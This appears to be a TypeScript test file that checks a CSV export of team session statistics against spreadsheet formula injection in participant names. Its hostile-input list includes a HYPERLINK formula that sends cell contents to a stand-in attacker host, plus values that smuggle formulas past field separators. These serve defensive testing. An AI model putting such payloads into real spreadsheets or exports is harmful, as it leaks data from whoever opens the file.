import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { formulaSafe } from '../../../src/mocks/stats/formula-safe.ts';
import { statsCsv } from '../../../src/mocks/stats/stats-csv.ts';
import type { TeamStats } from '../../../src/mocks/stats/team-stats.ts';
import { readCsv } from './read-csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1',
  '-1',
  '@x',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\0=1',
  "'=1",
  '"=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '﹦1',
  '−1',
  'Ada;=1',
  'Ada";=1;"',
  'Ada,\t=1',
  'Ada\n=1',
  'Ada","=1',
];
/** A formula begins here: after marks that programs pass over, in any of the forms that one of them reads. */
const IS_FORMULA = /^[\s\p{C}\p{Z}]*[=+\-@−]/u;

/** No cell is one, whatever a program takes for a separator; and none of ours begins with a mark that OWASP warns of. */
function expectNoFormula(file: string): void {
  for (const separator of [',', ';', '\t'])
    for (const cell of readCsv(file, separator).flat())
      expect(cell.normalize('NFKC')).not.toMatch(IS_FORMULA);
  for (const cell of readCsv(file).flat()) expect(cell).not.toMatch(/^[\t\r\n\0]/u);
}

function stats(names: readonly string[]): TeamStats {
  return {
    sessions: [
      {
        no: 1,
        startsAt: '2027-01-02T16:00:00.000Z',
        ended: 'held',
        joined: 5,
        tookPart: 4,
        observed: 1,
        groups: 2,
        named: names,
      },
    ],
    meetings: [{ times: 1, pairs: 4 }],
  };
}

function filesOf(names: readonly string[]): Record<string, string> {
  return Object.fromEntries(statsCsv(stats(names), 'Asia/Tokyo').map(({ name, text }) => [name, text]));
}

function named(names: readonly string[]): (string | undefined)[] {
  return readCsv(filesOf(names)['named.csv'] ?? '')
    .slice(1)
    .map((row) => row[2]);
}

test('the files are UTF-8 for Excel, with a row of headings, in quotes, and days in the organiser’s zone', () => {
  expect(filesOf([])).toEqual({
    'sessions.csv':
      '\ufeff"session","date","ended","joined","took part","observed","groups"\r\n"1","2027-01-03","held","5","4","1","2"\r\n',
    'named.csv': '\ufeff"session","date","agreed to be named"\r\n',
    'pairings.csv': '\ufeff"times met","pairs"\r\n"1","4"\r\n',
  });
});

describe('a name', () => {
  test.each(HOSTILE)('such as %j is no formula, whatever a program takes for a separator', (name) => {
    expectNoFormula(filesOf([name])['named.csv'] ?? '');
  });

  test('begins with no character that becomes a formula where a program makes wide and raised forms plain', () => {
    const found: string[] = [];
    for (let code = 0; code <= 0x10ffff; code += 1) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const name = `${String.fromCodePoint(code)}1`;
      if (IS_FORMULA.test(name.normalize('NFKC')) && !formulaSafe(name).includes("'")) found.push(name);
    }
    expect(found).toEqual([]);
  });

  test('that is none comes back as it was, quotes, commas, lines, hyphens and pictures too', () => {
    const plain = [
      'Ada "the" Lovelace',
      'Smith, J.',
      'Anne-Marie',
      'ada@example.org',
      '👩🏽‍💻 Zoë',
      'O’Neil',
      "d'Arc",
      'a\nb',
    ];
    expect(named(plain)).toEqual(plain);
  });

  test('of any kind comes back, but for apostrophes before what could be a formula', () => {
    const text = fc.string({
      unit: fc.oneof(
        fc.constantFrom(...'=+-@\t\r\n\0;,"\'＝－ '),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
      ),
    });
    fc.assert(
      fc.property(
        fc.array(
          text.filter((one) => one !== ''),
          { maxLength: 4 },
        ),
        (names) => {
          expect(named(names)).toEqual(names.map(formulaSafe));
          const bare = (one: string) => one.replaceAll("'", '');
          expect(names.map((one) => bare(formulaSafe(one)))).toEqual(names.map(bare));
          expectNoFormula(filesOf(names)['named.csv'] ?? '');
        },
      ),
      { numRuns: process.env.FULL === '1' ? 5_000 : 60 },
    );
  });
});
